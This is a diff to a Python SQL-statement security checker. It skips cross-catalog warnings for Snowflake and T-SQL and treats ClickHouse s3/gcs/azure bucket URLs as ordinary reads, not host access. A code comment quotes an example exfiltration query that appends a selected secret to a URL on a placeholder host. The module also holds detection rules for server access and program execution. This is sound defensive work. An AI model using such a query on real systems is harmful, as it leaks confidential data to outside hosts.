@@ -53,10 +53,18 @@ def _reads_a_path(node: exp.Table) -> bool:
     return node.db.lower() in _PATH_FORMATS and _outside_workspace(node.name)
 
 
+# Where every writable catalog is a database of the same account or server: a Snowflake
+# database (shared and replica databases are read-only), a T-SQL database of the instance (a
+# linked server takes a fourth name part, judged as another server).
+_ONE_SERVICE_CATALOGS = frozenset({"snowflake", "tsql"})
+
+
 def cross_catalog(statement: _Statement) -> None:
     """Rows read in one catalog and written to another leave the source system (Trino, Spark)."""
     if len(statement.objects) < 2:
         return  # a copy across catalogs names at least two
+    if statement.dialect_name in _ONE_SERVICE_CATALOGS:
+        return
     refs = [ref for ref in statement.objects.values() if ref.catalog]
     if len(refs) < 2:
         return  # a copy across catalogs names at least two
@@ -122,7 +130,8 @@ def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr)
     if name in _READING_TABLE_FUNCTIONS and _computed_location(function):
         # `read_csv('http://x/?d=' || (SELECT secret ...))`: the request itself carries data out.
         statement.add(I.EXPORT, f"{name}() fetches a location built from query data")
-    if name in _READING_TABLE_FUNCTIONS and literal and _outside_workspace(literal):
+    outside = literal and _outside_workspace(literal) and not _bucket_endpoint(name, literal)
+    if name in _READING_TABLE_FUNCTIONS and outside:
         statement.add(I.HOST_ACCESS, f"{name}() reads {literal}, outside the working data")
     if name in _OTHER_SERVER_FUNCTIONS:
         statement.add(I.HOST_ACCESS, f"{name}() reaches another server or the host's files")
@@ -131,6 +140,21 @@ def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr)
     if name in ("executable",):
         statement.add(I.HOST_ACCESS, f"{name}() runs a program on the server")
     _check_function(statement, function)
+
+
+# ClickHouse's object-storage functions take a bucket as an https URL of the provider's endpoint
+# (virtual-hosted or path style): reading it loads a bucket object, like `s3://bucket/key`. Any
+# other host (a metadata service, an internal web server) stays host access.
+_OBJECT_STORAGE_FUNCTIONS = frozenset({"s3", "s3cluster", "gcs", "azureblobstorage"})
+_OBJECT_STORAGE_URL = re.compile(
+    r"https://(?:[a-z0-9-]+\.)*(?:s3[a-z0-9.-]*\.amazonaws\.com|storage\.googleapis\.com"
+    r"|[a-z0-9]+\.blob\.core\.windows\.net)/",
+    re.IGNORECASE,
+)
+
+
+def _bucket_endpoint(name: str, location: str) -> bool:
+    return name in _OBJECT_STORAGE_FUNCTIONS and bool(_OBJECT_STORAGE_URL.match(location))
 
 
 # `file` is not here: ClickHouse reads it from its user_files folder, so a relative name is the
